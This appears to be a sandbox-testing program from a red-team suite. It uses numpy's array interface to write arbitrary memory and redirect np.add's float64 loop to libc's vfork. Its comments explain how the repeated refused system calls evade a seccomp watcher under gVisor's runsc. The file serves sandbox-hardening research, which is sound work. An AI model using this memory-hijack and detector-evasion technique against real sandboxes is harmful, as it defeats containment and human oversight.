# family: rt12
# reaches: process
# layer: runtime
# static: denied
# Under Debian's runsc (20221219), whose SECCOMP_RET_KILL_PROCESS ends only the calling thread, a
# program that makes refused system calls again and again and runs on. The route of
# rt11/numpy_loop_fork.py (np.add's float64 loop made libc's vfork through __array_interface__,
# run by a thread that has let the interpreter lock go; vfork, unlike fork, takes none of libc's
# locks first, which a killed thread would keep) kills a new thread every 30 ms. The watch
# (sbxgate.c) ends the process when two looks in a row, 0.1 s apart, find the same killed thread
# first in the interpreter's list; a new killed state is put at the list's head before each look,
# so no two looks agree: 40 refusals over 1.5 s, then the program exits 0 with no violation
# (findings/42). Under runc the kernel kills the whole process at the first vfork; with no layer
# the program makes processes (each child ends at once).
import os
import struct
import threading
import time

import numpy as np


def libc_function(name):
    """The address of a libc function in this process, from /proc/self/maps and libc's symbols."""
    for line in open("/proc/self/maps"):
        f = line.split()
        if len(f) >= 6 and "/libc.so" in f[5] and int(f[2], 16) == 0:
            base, path = int(f[0].split("-")[0], 16), f[5]
            break
    data = open(path, "rb").read()
    shoff, = struct.unpack_from("<Q", data, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", data, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize) for i in range(shnum)]
    for s in sections:
        if s[1] == 11:
            strtab = sections[s[6]][4]
            for off in range(s[4], s[4] + s[5], 24):
                st_name, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", data, off)
                start = strtab + st_name
                if data[start:data.index(b"\0", start)] == name:
                    return base + value


class Window:
    def __init__(self, addr, n, typestr="<u8"):
        self.__array_interface__ = {"data": (addr, False), "shape": (n,), "typestr": typestr, "version": 3}


def word(addr):
    return int(np.asarray(Window(addr, 1))[0])


# PyUFuncObject: nin, nout, nargs at 16; functions at 32, ntypes at 48, types at 64.
uf = id(np.add)
nargs = int(np.asarray(Window(uf + 16, 3, "<i4"))[2])
functions, ntypes, types = word(uf + 32), int(np.asarray(Window(uf + 48, 1, "<i4"))[0]), word(uf + 64)
sig = np.asarray(Window(types, ntypes * nargs, "|u1")).reshape(ntypes, nargs)
loop = [k for k in range(ntypes) if list(sig[k]) == [12, 12, 12]][0]  # NPY_DOUBLE
a = np.ones(100000)
np.asarray(Window(functions + 8 * loop, 1))[0] = libc_function(b"vfork")

parent = os.getpid()


def work():
    np.add(a, a)
    if os.getpid() != parent:  # vfork's child: the loop returned in it too
        print("np.add ran vfork in", os.getpid(), flush=True)
        os._exit(0)


for k in range(40):
    t = threading.Thread(target=work, daemon=True)
    t.start()
    time.sleep(0.03)
print("40 refused calls, the program goes on and ends well", flush=True)
